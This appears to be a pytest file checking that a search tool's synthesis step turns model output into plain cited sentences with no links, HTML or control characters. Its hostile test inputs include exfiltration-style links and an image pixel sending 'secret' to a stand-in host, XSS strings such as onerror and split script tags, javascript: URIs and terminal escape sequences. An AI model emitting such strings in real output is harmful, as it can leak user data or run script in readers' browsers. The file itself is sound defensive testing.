"""What a model wrote becomes plain sentences with their citations, and never a link."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from spe_search.synthesis import Statement, statements
from spe_search.synthesis.plain import LONGEST, MOST_SENTENCES

MARKS = [
    ("Douze entreprises ont participé [2].", (2,)),
    ("Douze entreprises ont participé. [2]", (2,)),
    ("Douze entreprises ont participé.[2][3]", (2, 3)),
    ("[2] Douze entreprises ont participé.", (2,)),
    ("Douze entreprises [1] ont participé [2, 3].", (1, 2, 3)),
    ("Douze entreprises ont participé [1-3].", (1, 2, 3)),
    ("Douze entreprises ont participé [passage 4].", (4,)),
    ("Douze entreprises ont participé 【1†source】.", (1,)),
    ("Douze entreprises ont participé [2](https://mal.example/?q=secret).", (2,)),
    ("- **Douze** entreprises ont participé [2].", (2,)),
    ("Douze entreprises ont participé [2]!", (2,)),
    ("<think>Voyons [9].</think>\nDouze entreprises ont participé [2].", (2,)),
    ("Douze entreprises ont participé.", ()),
]


@pytest.mark.parametrize(("text", "cited"), MARKS, ids=[text for text, _ in MARKS])
def test_marks_are_read_and_taken_out(text: str, cited: tuple[int, ...]) -> None:
    (found,) = statements(text)
    assert found.cited == cited
    assert found.text.rstrip(".!") == ("Douze entreprises ont participé"), (
        "the sentence stays, without its marks"
    )


def test_each_sentence_has_its_own_marks() -> None:
    text = "Douze entreprises [1]. Trois ateliers. [2] Une foire\nà Laval [3].\n\n* Un prix [1].\n"
    assert [(each.text, each.cited) for each in statements(text)] == [
        ("Douze entreprises.", (1,)),
        ("Trois ateliers.", (2,)),
        ("Une foire à Laval.", (3,)),
        ("Un prix.", (1,)),
    ]


def test_marks_before_sentences_stay_with_what_follows() -> None:
    found = statements("[1] Douze entreprises. [2] Trois ateliers.")
    assert [each.cited for each in found] == [(1,), (2,)]


HOSTILE = [
    "[Cliquez](https://mal.example/?q=secret) ici [1].",
    "![](https://mal.example/pixel.png?q=secret) Un fait [1].",
    "[Cliquez][a] ici [1].\n\n[a]: https://mal.example",
    "[1]: https://mal.example\n\nUn fait [1].",
    "<a href='https://mal.example'>Un fait</a> [1].",
    "<img src=x onerror=alert(1)> Un fait [1].",
    "<scr<b>ipt>alert(1)</scr</b>ipt> Un fait [1].",
    "&lt;a href=&quot;https://mal.example&quot;&gt;Un fait&lt;/a&gt; [1].",
    "\\[Un fait\\]\\(https://mal.example\\) [1].",
    "Un fait, voir https://mal.example/a et www.mal.example ou moi@mal.example [1].",
    "Un fait : javascript:alert(1) data:text/html,x [1].",
    "Un fait, voir mal.example/page?q=secret [1].",
    "Un fait <https://mal.example> [1].",
    "```\n[Un fait](https://mal.example)\n```",
    "Un fait, voir http:\\//mal.example/a [1].",
    "hthttps://mal.exampletps://mal.example [1]",
    "Un fait \x1b]8;;https://mal.example\x07ici\x1b]8;;\x07 [1].",
    "Un f\u200bait\u202e [1].",
]


def rendered(text: str) -> set[str]:
    """Return what a renderer of Markdown, told to be generous, makes of a text."""
    parser = MarkdownIt("commonmark", {"html": True})
    tokens = [t for token in parser.parse(text) for t in (token, *(token.children or []))]
    return {token.type for token in tokens}


def check_harmless(found: tuple[Statement, ...]) -> None:
    dangerous = {"link_open", "image", "html_inline", "html_block"}
    for each in found:
        assert not rendered(each.text) & dangerous, each.text
        assert not any(mark in each.text for mark in ("://", "www.", "<", ">", "[", "]")), each
        assert "javascript:" not in each.text.lower()
        assert all(c.isprintable() or c in "\u00a0\u202f" for c in each.text)
        assert each.text == each.text.strip() != ""
    # Nor do they when one is shown after another.
    assert not rendered(" ".join(each.text for each in found)) & dangerous


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_leads_anywhere(text: str) -> None:
    found = statements(text)
    check_harmless(found)
    assert not any(word in str(found) for word in ("mal.example", "secret", "alert(1)>"))


PIECES = st.sampled_from(
    [
        "[", "]", "(", ")", "!", "<", ">", "](", "[1]", "[2]: ", "http", "s://", "://", "www.",
        "javascript:", "a.ca", "/x", "&lt;", "&#91;", "&amp;", "\\", "`", "```\n", "\n", "\n\n",
        "<a href=", "</a>", "<think>", "</think>", "mot", " ", ".", "é", "@", "\x1b", "\u200b",
    ]
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=40).map("".join) | st.text(max_size=200))
def test_no_output_ever_leads_to_a_link(text: str) -> None:
    check_harmless(statements(text))


def test_an_endless_output_is_cut() -> None:
    found = statements("Un fait [1]. " * 100_000)
    assert len(found) == MOST_SENTENCES
    assert len(statements("a" * (10 * LONGEST))[0].text) <= LONGEST


@pytest.mark.parametrize("text", ["", " \n", "***", "[1]", "<think>Je réfléchis", "---\n\n- "])
def test_nothing_said_is_nothing(text: str) -> None:
    assert statements(text) == ()
